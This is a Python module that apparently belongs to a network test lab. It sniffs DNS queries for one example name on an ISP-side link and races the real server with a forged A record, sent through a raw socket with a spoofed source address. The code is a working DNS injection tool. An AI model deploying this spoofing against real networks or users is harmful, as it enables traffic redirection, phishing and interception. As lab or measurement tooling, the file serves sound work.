"""An injector on the path: sees questions for one name on their way out, and answers before the server does."""

from __future__ import annotations

import asyncio
import socket
import struct

import dns.exception
import dns.message
import dns.rrset
import layout as at

NAME = "injected.example"
_IP = 0x0800


def start() -> None:
    """Listen on the isp's side of the line (AF_PACKET) and forge replies through a raw socket."""
    ears = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(_IP))
    ears.bind(("p1", _IP))
    ears.setblocking(False)
    mouth = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    asyncio.get_running_loop().add_reader(ears, _hear, ears, mouth)


def _hear(ears: socket.socket, mouth: socket.socket) -> None:
    packet, origin = ears.recvfrom(65_535)
    if origin[2] == socket.PACKET_OUTGOING or len(packet) < 40 or packet[9] != socket.IPPROTO_UDP:
        return
    start = (packet[0] & 15) * 4
    source, target = packet[12:16], packet[16:20]
    source_port, port = struct.unpack("!HH", packet[start : start + 4])
    if port != 53 or socket.inet_ntoa(target) != at.FAR_RESOLVER:
        return
    try:
        query = dns.message.from_wire(packet[start + 8 :])
    except dns.exception.DNSException:
        return
    question = query.question[0]
    if question.name.to_text(omit_final_dot=True).lower() != NAME or question.rdtype.name != "A":
        return
    reply = dns.message.make_response(query)
    reply.use_edns(-1)
    reply.answer.append(dns.rrset.from_text(NAME + ".", 300, "IN", "A", at.INJECTED))
    content = reply.to_wire()
    udp = struct.pack("!HHHH", 53, source_port, 8 + len(content), 0) + content
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 44, socket.IPPROTO_UDP, 0, target, source)
    mouth.sendto(head + udp, (socket.inet_ntoa(source), 0))
